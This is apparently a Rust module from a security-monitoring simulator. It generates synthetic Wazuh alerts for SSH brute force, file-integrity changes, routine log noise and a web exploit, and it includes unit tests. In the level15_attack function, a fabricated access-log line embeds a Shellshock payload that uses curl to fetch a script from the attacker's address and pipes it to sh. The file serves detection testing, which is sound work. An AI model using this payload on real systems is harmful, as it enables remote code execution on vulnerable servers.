//! Alert generator: scenario functions that produce alerts in the shape of the
//! `wazuh-alerts-4.x-*` index (rule, agent, manager, decoder, data, syscheck...), for the
//! seeded index and for tests. Our own invented events; deterministic from the seed.

mod catalogue;

use std::collections::HashMap;

use serde_json::{Map, Value, json};
use time::{Duration, OffsetDateTime};

use super::clock;
use super::rng::SimRng;
use super::state::{CLUSTER_NAME, MANAGER_HOST, MASTER_NODE};
use catalogue::*;

/// An agent as it appears in alerts.
#[derive(Debug, Clone, PartialEq)]
pub struct AlertAgent {
    pub id: String,
    pub name: String,
    pub ip: String,
    /// `ubuntu`, `windows`, `rhel`, ... (chooses log locations and noise rules).
    pub platform: String,
}

/// Generates alerts. Build one with [`AlertGen::new`] or take it from
/// [`super::Simulator::alerts`] (which knows the simulator's agents).
pub struct AlertGen {
    rng: SimRng,
    agents: Vec<AlertAgent>,
    fired: HashMap<(String, String), u64>,
    seq: u64,
}

fn syslog_stamp(t: OffsetDateTime) -> String {
    const MONTHS: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    format!(
        "{} {:>2} {:02}:{:02}:{:02}",
        MONTHS[(t.month() as usize).saturating_sub(1) % 12],
        t.day(),
        t.hour(),
        t.minute(),
        t.second()
    )
}

fn is_windows(a: &AlertAgent) -> bool {
    a.platform == "windows"
}

fn auth_log(a: &AlertAgent) -> &'static str {
    match a.platform.as_str() {
        "rhel" | "centos" | "amzn" => "/var/log/secure",
        _ => "/var/log/auth.log",
    }
}

impl AlertGen {
    pub fn new(seed: u64, agents: Vec<AlertAgent>) -> Self {
        Self {
            rng: SimRng::new(seed ^ 0xA1E7),
            agents,
            fired: HashMap::new(),
            seq: 0,
        }
    }

    /// The agent with this id (an invented one when the id is unknown).
    pub fn agent(&self, id: &str) -> AlertAgent {
        self.agents
            .iter()
            .find(|a| a.id == id)
            .cloned()
            .unwrap_or_else(|| AlertAgent {
                id: id.to_string(),
                name: format!("agent-{id}"),
                ip: format!(
                    "10.0.99.{}",
                    id.bytes().map(u32::from).sum::<u32>() % 200 + 20
                ),
                platform: "ubuntu".into(),
            })
    }

    fn agents_or_default(&self, ids: &[&str]) -> Vec<AlertAgent> {
        if ids.is_empty() {
            return vec![
                self.agents
                    .first()
                    .cloned()
                    .unwrap_or_else(|| self.agent("001")),
            ];
        }
        ids.iter().map(|id| self.agent(id)).collect()
    }

    fn alert(
        &mut self,
        at: OffsetDateTime,
        rule: &Rule,
        agent: &AlertAgent,
        extra: Map<String, Value>,
    ) -> Value {
        let fired = self
            .fired
            .entry((rule.id.to_string(), agent.id.clone()))
            .or_insert(0);
        *fired += 1;
        self.seq += 1;
        let mut r = Map::new();
        r.insert("level".into(), json!(rule.level));
        r.insert("description".into(), json!(rule.description));
        r.insert("id".into(), json!(rule.id));
        r.insert("firedtimes".into(), json!(*fired));
        r.insert("mail".into(), json!(rule.level >= 12));
        r.insert("groups".into(), json!(rule.groups));
        if let Some((ids, tactics, techniques)) = rule.mitre {
            r.insert(
                "mitre".into(),
                json!({"id": ids, "tactic": tactics, "technique": techniques}),
            );
        }
        if !rule.pci_dss.is_empty() {
            r.insert("pci_dss".into(), json!(rule.pci_dss));
        }
        let mut doc = Map::new();
        doc.insert("timestamp".into(), json!(clock::alert_ts(at)));
        doc.insert("rule".into(), Value::Object(r));
        doc.insert(
            "agent".into(),
            json!({"id": agent.id, "name": agent.name, "ip": agent.ip}),
        );
        doc.insert("manager".into(), json!({"name": MANAGER_HOST}));
        doc.insert(
            "id".into(),
            json!(format!(
                "{}.{}",
                at.unix_timestamp(),
                self.seq * 1000 + self.rng.range(0, 999)
            )),
        );
        doc.insert(
            "cluster".into(),
            json!({"name": CLUSTER_NAME, "node": MASTER_NODE}),
        );
        doc.insert("input".into(), json!({"type": "log"}));
        doc.extend(extra);
        Value::Object(doc)
    }

    /// An SSH password-guessing run from `src_ip` against `agents` (round robin): `count`
    /// failed logins (rules 5710 / 5716, level 5), 2 to 6 seconds apart from `start`, plus
    /// a level-10 `authentication_failures` alert (5712, 5720 or 5763) for every 8th
    /// failure on one agent. Returned oldest first.
    pub fn ssh_brute_force(
        &mut self,
        src_ip: &str,
        agents: &[&str],
        count: usize,
        start: OffsetDateTime,
    ) -> Vec<Value> {
        let targets = self.agents_or_default(agents);
        let mut out = Vec::new();
        let mut per_agent: HashMap<String, u64> = HashMap::new();
        let mut at = start;
        for i in 0..count {
            let agent = &targets[i % targets.len()];
            let invalid = self.rng.chance(0.6);
            let user = if invalid {
                *self.rng.pick(USERS_INVALID)
            } else {
                *self.rng.pick(USERS_VALID)
            };
            let port = self.rng.range(32_768, 65_000);
            let pid = self.rng.range(1_000, 60_000);
            let line = format!(
                "{} {} sshd[{pid}]: Failed password for {}{user} from {src_ip} port {port} ssh2",
                syslog_stamp(at),
                agent.name,
                if invalid { "invalid user " } else { "" }
            );
            let mut data = Map::new();
            data.insert("srcip".into(), json!(src_ip));
            data.insert("srcport".into(), json!(port.to_string()));
            data.insert(
                if invalid { "srcuser" } else { "dstuser" }.into(),
                json!(user),
            );
            let mut extra = Map::new();
            extra.insert("full_log".into(), json!(line));
            extra.insert(
                "predecoder".into(),
                json!({"program_name": "sshd", "timestamp": syslog_stamp(at), "hostname": agent.name}),
            );
            extra.insert("decoder".into(), json!({"parent": "sshd", "name": "sshd"}));
            extra.insert("data".into(), Value::Object(data.clone()));
            extra.insert("location".into(), json!(auth_log(agent)));
            let rule = if invalid { &R5710 } else { &R5716 };
            out.push(self.alert(at, rule, agent, extra.clone()));
            let n = per_agent.entry(agent.id.clone()).or_insert(0);
            *n += 1;
            if n.is_multiple_of(8) {
                let corr = if invalid {
                    &R5712
                } else if (*n / 8) % 2 == 1 {
                    &R5720
                } else {
                    &R5763
                };
                let mut corr_alert = self.alert(at + Duration::milliseconds(5), corr, agent, extra);
                if let Some(r) = corr_alert.get_mut("rule").and_then(Value::as_object_mut) {
                    r.insert("frequency".into(), json!(8));
                }
                out.push(corr_alert);
            }
            at += Duration::seconds(self.rng.range(2, 6) as i64)
                + Duration::milliseconds(self.rng.range(0, 999) as i64);
        }
        out
    }

    /// A web exploit against `agent` from `src_ip` at `at`: a Shellshock attempt (31166,
    /// level 6) followed by the level-15 detection (31168) with MITRE T1068/T1190.
    pub fn level15_attack(&mut self, src_ip: &str, agent: &str, at: OffsetDateTime) -> Vec<Value> {
        let agent = self.agent(agent);
        let mut out = Vec::new();
        for (i, rule) in [&R31166, &R31168].into_iter().enumerate() {
            let t = at + Duration::milliseconds(i as i64 * 40);
            let stamp = format!(
                "{:02}/{}/{}:{:02}:{:02}:{:02} +0000",
                t.day(),
                &syslog_stamp(t)[..3],
                t.year(),
                t.hour(),
                t.minute(),
                t.second()
            );
            let line = format!(
                "{src_ip} - - [{stamp}] \"GET /cgi-bin/status HTTP/1.1\" 200 {} \"-\" \"() {{ :; }}; /bin/bash -c 'curl -s http://{src_ip}/x.sh | sh'\"",
                self.rng.range(200, 4000)
            );
            let mut extra = Map::new();
            extra.insert("full_log".into(), json!(line));
            extra.insert("decoder".into(), json!({"name": "web-accesslog"}));
            extra.insert(
                "data".into(),
                json!({"protocol": "GET", "srcip": src_ip, "url": "/cgi-bin/status", "id": "200"}),
            );
            extra.insert("location".into(), json!("/var/log/apache2/access.log"));
            out.push(self.alert(t, rule, &agent, extra));
        }
        out
    }

    /// File integrity changes (rule 550, level 7): `count` modified files on `agents`,
    /// one every `every` from `start`.
    pub fn fim_trickle(
        &mut self,
        agents: &[&str],
        count: usize,
        start: OffsetDateTime,
        every: Duration,
    ) -> Vec<Value> {
        let targets = self.agents_or_default(agents);
        let mut out = Vec::new();
        for i in 0..count {
            let agent = &targets[i % targets.len()];
            let at = start + every * i as u32;
            let path = if is_windows(agent) {
                *self.rng.pick(FIM_WINDOWS)
            } else {
                *self.rng.pick(FIM_LINUX)
            };
            let size_before = self.rng.range(200, 9000);
            let size_after = size_before + self.rng.range(1, 300);
            let mode = if self.rng.chance(0.7) {
                "realtime"
            } else {
                "scheduled"
            };
            let (md5b, md5a) = (self.rng.hex(32), self.rng.hex(32));
            let (sha1b, sha1a) = (self.rng.hex(40), self.rng.hex(40));
            let (sha256b, sha256a) = (self.rng.hex(64), self.rng.hex(64));
            let mtime_before = at - Duration::days(self.rng.range(1, 200) as i64);
            let full_log = format!(
                "File '{path}' modified\nMode: {mode}\nChanged attributes: size,mtime,md5,sha1,sha256\nSize changed from '{size_before}' to '{size_after}'\nOld md5sum was: '{md5b}'\nNew md5sum is : '{md5a}'\n"
            );
            let mut extra = Map::new();
            extra.insert("full_log".into(), json!(full_log));
            extra.insert(
                "syscheck".into(),
                json!({
                    "path": path,
                    "mode": mode,
                    "event": "modified",
                    "size_before": size_before.to_string(),
                    "size_after": size_after.to_string(),
                    "perm_after": "rw-r--r--",
                    "uid_after": "0",
                    "gid_after": "0",
                    "uname_after": "root",
                    "gname_after": "root",
                    "md5_before": md5b,
                    "md5_after": md5a,
                    "sha1_before": sha1b,
                    "sha1_after": sha1a,
                    "sha256_before": sha256b,
                    "sha256_after": sha256a,
                    "mtime_before": clock::wazuh_z(mtime_before),
                    "mtime_after": clock::wazuh_z(at),
                    "inode_after": self.rng.range(100_000, 9_000_000),
                    "changed_attributes": ["size", "mtime", "md5", "sha1", "sha256"],
                }),
            );
            extra.insert(
                "decoder".into(),
                json!({"name": "syscheck_integrity_changed"}),
            );
            extra.insert("location".into(), json!("syscheck"));
            out.push(self.alert(at, &R550, agent, extra));
        }
        out
    }

    /// Everyday low-level events (levels 2-4: logins, sudo, session open/close, service
    /// failures; Windows logon/logoff on Windows agents), `count` of them spread over
    /// `[start, end)`, oldest first.
    pub fn noise(
        &mut self,
        agents: &[&str],
        count: usize,
        start: OffsetDateTime,
        end: OffsetDateTime,
    ) -> Vec<Value> {
        let targets = self.agents_or_default(agents);
        let span_ms = (end - start).whole_milliseconds().max(1) as u64;
        let mut times: Vec<OffsetDateTime> = (0..count)
            .map(|_| start + Duration::milliseconds(self.rng.range(0, span_ms - 1) as i64))
            .collect();
        times.sort();
        let mut out = Vec::new();
        for at in times {
            let agent = self.rng.pick(&targets).clone();
            let table = if is_windows(&agent) {
                NOISE_WINDOWS
            } else {
                NOISE_LINUX
            };
            let rule = self.rng.pick(table);
            let user = *self.rng.pick(STAFF);
            let pid = self.rng.range(500, 60_000);
            let mut extra = Map::new();
            if is_windows(&agent) {
                extra.insert("decoder".into(), json!({"name": "windows_eventchannel"}));
                extra.insert("location".into(), json!("EventChannel"));
                extra.insert(
                    "data".into(),
                    json!({"win": {
                        "system": {"eventID": if rule.id == "60106" { "4624" } else { "4634" }, "computer": agent.name},
                        "eventdata": {"targetUserName": user},
                    }}),
                );
            } else {
                let (program, text, data) = match rule.id {
                    "5501" => (
                        "sshd",
                        format!(
                            "pam_unix(sshd:session): session opened for user {user} by (uid=0)"
                        ),
                        json!({"dstuser": user}),
                    ),
                    "5502" => (
                        "sshd",
                        format!("pam_unix(sshd:session): session closed for user {user}"),
                        json!({"dstuser": user}),
                    ),
                    "5715" => {
                        let ip = format!("10.0.5.{}", self.rng.range(11, 249));
                        (
                            "sshd",
                            format!(
                                "Accepted publickey for {user} from {ip} port {} ssh2",
                                self.rng.range(32_768, 65_000)
                            ),
                            json!({"srcip": ip, "dstuser": user}),
                        )
                    }
                    "5402" | "5403" => (
                        "sudo",
                        format!(
                            "{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx"
                        ),
                        json!({"srcuser": user, "dstuser": "root"}),
                    ),
                    "40704" => (
                        "systemd",
                        "cron-backup.service: Main process exited, code=exited, status=1/FAILURE"
                            .to_string(),
                        json!({}),
                    ),
                    _ => (
                        "kernel",
                        "EXT4-fs warning: mounting fs with errors, running e2fsck is recommended"
                            .to_string(),
                        json!({}),
                    ),
                };
                extra.insert(
                    "full_log".into(),
                    json!(format!(
                        "{} {} {program}[{pid}]: {text}",
                        syslog_stamp(at),
                        agent.name
                    )),
                );
                extra.insert(
                    "predecoder".into(),
                    json!({"program_name": program, "timestamp": syslog_stamp(at), "hostname": agent.name}),
                );
                extra.insert("decoder".into(), json!({"name": program}));
                if data.as_object().is_some_and(|d| !d.is_empty()) {
                    extra.insert("data".into(), data);
                }
                extra.insert("location".into(), json!(auth_log(&agent)));
            }
            out.push(self.alert(at, rule, &agent, extra));
        }
        out
    }

    /// The default index: a realistic mix over the 24 h before `now` (a few hundred
    /// alerts: noise, two SSH brute-force runs, a FIM trickle and one level-15 exploit).
    pub fn seeded_day(&mut self, now: OffsetDateTime) -> Vec<Value> {
        // Agents that never reported (no OS known) send no events.
        let reporting: Vec<String> = self
            .agents
            .iter()
            .filter(|a| a.platform != "unknown")
            .map(|a| a.id.clone())
            .collect();
        let all: Vec<&str> = reporting.iter().map(String::as_str).collect();
        let mut out = self.noise(
            &all,
            230,
            now - Duration::hours(24),
            now - Duration::minutes(2),
        );
        out.extend(self.ssh_brute_force(
            "203.0.113.45",
            &["001", "002"],
            40,
            now - Duration::hours(6),
        ));
        out.extend(self.ssh_brute_force(
            "198.51.100.23",
            &["005"],
            16,
            now - Duration::minutes(50),
        ));
        out.extend(self.fim_trickle(
            &["003", "007", "009"],
            12,
            now - Duration::hours(12),
            // Each agent every 45 min: one slow-trickle incident per agent.
            Duration::minutes(15),
        ));
        out.extend(self.level15_attack("192.0.2.77", "001", now - Duration::hours(2)));
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gen_() -> AlertGen {
        AlertGen::new(
            3,
            vec![
                AlertAgent {
                    id: "001".into(),
                    name: "web-01".into(),
                    ip: "10.0.10.5".into(),
                    platform: "ubuntu".into(),
                },
                AlertAgent {
                    id: "007".into(),
                    name: "win-dc-01".into(),
                    ip: "10.0.30.5".into(),
                    platform: "windows".into(),
                },
            ],
        )
    }

    #[test]
    fn brute_force_has_failures_and_level_10_correlations() {
        let start = clock::from_millis(1_714_558_830_000);
        let alerts = gen_().ssh_brute_force("203.0.113.9", &["001"], 16, start);
        assert_eq!(alerts.len(), 18);
        let tens = alerts
            .iter()
            .filter(|a| a["rule"]["level"] == 10)
            .collect::<Vec<_>>();
        assert_eq!(tens.len(), 2);
        for a in &tens {
            assert!(
                a["rule"]["groups"]
                    .as_array()
                    .unwrap()
                    .contains(&json!("authentication_failures"))
            );
            assert_eq!(a["data"]["srcip"], "203.0.113.9");
        }
        assert!(alerts.iter().all(|a| a["agent"]["name"] == "web-01"));
        assert!(
            alerts
                .iter()
                .filter(|a| a["rule"]["level"] == 5)
                .all(|a| ["5710", "5716"].contains(&a["rule"]["id"].as_str().unwrap()))
        );
    }

    #[test]
    fn level15_and_fim_and_noise_have_the_template_fields() {
        let mut g = gen_();
        let now = clock::from_millis(1_714_558_830_000);
        let l15 = g.level15_attack("192.0.2.1", "001", now);
        assert_eq!(l15[1]["rule"]["level"], 15);
        assert_eq!(l15[1]["rule"]["mitre"]["id"][0], "T1068");
        let fim = g.fim_trickle(&["001", "007"], 4, now, Duration::minutes(1));
        assert!(fim.iter().all(|a| a["syscheck"]["event"] == "modified"));
        assert!(fim.iter().all(|a| a["rule"]["level"] == 7));
        let noise = g.noise(&["001", "007"], 50, now - Duration::hours(1), now);
        assert!(noise.iter().all(|a| {
            let l = a["rule"]["level"].as_u64().unwrap();
            (2..=4).contains(&l)
        }));
        assert!(
            noise
                .iter()
                .all(|a| clock::parse_date_millis(a["timestamp"].as_str().unwrap()).is_some())
        );
    }

    #[test]
    fn same_seed_same_alerts() {
        let now = clock::from_millis(1_714_558_830_000);
        assert_eq!(gen_().seeded_day(now), gen_().seeded_day(now));
    }
}
